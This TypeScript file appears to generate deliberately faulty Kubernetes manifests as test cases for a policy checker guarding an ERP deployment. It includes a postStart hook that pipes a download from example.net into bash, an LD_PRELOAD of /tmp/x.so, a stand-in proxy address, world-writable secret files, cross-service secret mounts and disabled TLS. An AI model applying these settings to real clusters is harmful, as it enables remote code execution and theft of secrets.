import { append, type Edits, edited, type Mutation, rewrite, set } from '../mutation.ts';
import { type Production, serviceOf } from '../production.ts';

const pod = 'spec.template.spec';
const container = `${pod}.containers[0]`;
const job = 'spec.jobTemplate.spec.template.spec.containers[0]';

const workload: Edits = {
  'limit-setting-range': {
    'is ended at the first slow answer': set(`${container}.livenessProbe.failureThreshold`, 1),
    'takes a day to stop': set(`${pod}.terminationGracePeriodSeconds`, 86_400),
    'asks for memory in the wrong unit': set(`${container}.resources.requests.memory`, '512Ki'),
  },
  'limit-container-command': {
    'runs what it fetches': set(`${container}.lifecycle.postStart`, {
      exec: { command: ['sh', '-c', 'wget -qO- https://example.net/x | bash'] },
    }),
    'sleeps in place of its program': set(`${container}.command`, ['sleep', 'infinity']),
    'loads code of somebody': append(`${container}.env`, { name: 'LD_PRELOAD', value: '/tmp/x.so' }),
    'asks through somebody': append(`${container}.env`, { name: 'https_proxy', value: 'http://203.0.113.10:3128' }),
  },
  'match-volume-claim': {
    'has a disk that nobody makes': append(`${pod}.volumes`, { name: 'documents', persistentVolumeClaim: { claimName: 'documents' } }),
  },
  'match-volume-mount': {
    'has its secrets beside where it looks': set(`${container}.volumeMounts[2].mountPath`, '/app/secret'),
    'trusts nobody any more': set(`${container}.volumeMounts[3].mountPath`, '/etc/ssl'),
    'starts without its secrets': set(`${pod}.volumes[2].secret.optional`, true),
    'lets everybody write its secrets': set(`${pod}.volumes[2].secret.defaultMode`, 511),
    'has a token that is good for nothing': append(`${pod}.volumes`, {
      name: 'token',
      projected: { sources: [{ serviceAccountToken: { path: 'token' } }] },
    }),
  },
  'match-variable': { 'listens for itself': set(`${container}.env[0].value`, '127.0.0.1') },
  'forbid-root-user': { 'gives its files to root': set(`${pod}.securityContext.fsGroup`, 0) },
  'forbid-host-namespaces': { 'shares its processes': set(`${pod}.shareProcessNamespace`, true) },
  'match-dependency-priority': { 'waits like a job': set(`${pod}.priorityClassName`, 'erp-batch') },
};

const scaler: Edits = {
  'limit-autoscaler-bounds': {
    'goes below its minimum when it is blind': set('spec.fallback.replicas', 1),
    'leaves one pod when it is deleted': set('spec.advanced.restoreToOriginalReplicaCount', true),
  },
  'limit-autoscaler-targets': { 'wants all pods for any load': set('spec.triggers[2].metadata.threshold', '0') },
  'forbid-unverified-tls': { 'believes anybody': set('spec.triggers[2].metadata.unsafeSsl', 'true') },
};

const settings: Edits = {
  'match-variable': {
    'speaks in clear': set('data.KAFKA_SECURITY_PROTOCOL', 'PLAINTEXT'),
    'is measured at no port': set('data.PROMETHEUS_METRICS_PORT', '9090'),
    'drains longer than it lives': set('data.SHUTDOWN_DRAIN_SECONDS', '600'),
  },
};

/** Values of programs, of what they are told and of what they mount that are well formed and wrong. */
export default function programValues(production: Production): readonly Mutation[] {
  const { manifests } = production;
  const services = production.ofServices('Deployment');
  const names = services.map(serviceOf);
  const next = (name: string) => names[(names.indexOf(name) + 1) % names.length] ?? '';
  return [
    ...edited(manifests, services, workload),
    ...edited(manifests, services, (target) => ({
      'match-account-owner': {
        'reads the secrets of another': set(`${pod}.volumes[2].secret.secretName`, `${next(serviceOf(target))}-secrets`),
      },
    })),
    ...edited(manifests, production.ofKind('ScaledObject'), scaler),
    ...edited(manifests, production.ofKind('ScaledObject'), ({ name }) => ({
      'match-scale-target': {
        'measures another': rewrite('spec.triggers[2].metadata.query', (query) => query.replaceAll(`"${name}"`, `"${next(name)}"`)),
      },
      'unique-autoscaler-target': {
        'makes the autoscaler of another': set('spec.advanced.horizontalPodAutoscalerConfig.name', `${next(name)}-hpa`),
      },
    })),
    ...edited(
      manifests,
      names.flatMap((name) => production.configOf(name) ?? []),
      settings,
    ),
    ...edited(manifests, production.ofKind('CronJob', 'postgres-backup'), {
      'match-variable': {
        'logs in as the superuser': set(`${job}.env[4].value`, 'postgres'),
        'calls the database by a name that its certificate does not have': set(`${job}.env[2].value`, 'postgres-repl.erp-infra.svc'),
      },
      'forbid-unverified-tls': { 'speaks to anybody': set(`${job}.env[6].value`, 'disable') },
      'match-volume-mount': { 'runs a script that is not there': set(`${job}.command[1]`, '/app/scripts/back-up.sh') },
      'require-backup': { 'is ended before it is done': set('spec.jobTemplate.spec.activeDeadlineSeconds', 60) },
      'limit-container-command': { 'does nothing': set(`${job}.command`, ['/bin/true']) },
    }),
    ...edited(manifests, production.ofKind('PriorityClass', 'erp-service'), {
      'limit-priority-value': { 'is for everybody, as another is': set('globalDefault', true) },
    }),
    ...edited(
      manifests,
      production.ofKind('ResourceQuota').filter(({ namespace }) => namespace === 'erp-prod'),
      {
        'match-quota': {
          'opens doors that nothing needs': set('spec.hard["services.loadbalancers"]', '10'),
          'counts fewer workloads than there are': set('spec.hard["count/deployments.apps"]', '1'),
        },
      },
    ),
    ...edited(manifests, production.ofKind('KafkaTopic'), {
      'limit-setting-range': { 'has partitions without end': set('spec.partitions', 10_000) },
    }),
    ...edited(manifests, production.ofKind('Namespace', 'erp-prod'), {
      'require-pod-security-labels': {
        'is held to an old standard': set('metadata.labels["pod-security.kubernetes.io/enforce-version"]', 'v1.20'),
      },
    }),
    ...edited(manifests, production.ofKind('KafkaNodePool'), {
      'require-jvm-memory': { 'has a heap in which nothing starts': set('spec.jvmOptions["-Xmx"]', '32m') },
    }),
    ...edited(manifests, production.ofKind('postgresql'), {
      'require-durable-postgres': { 'follows another': set('spec.standby', { s3_wal_path: 's3://erp-backups/spilo/other' }) },
    }),
  ];
}
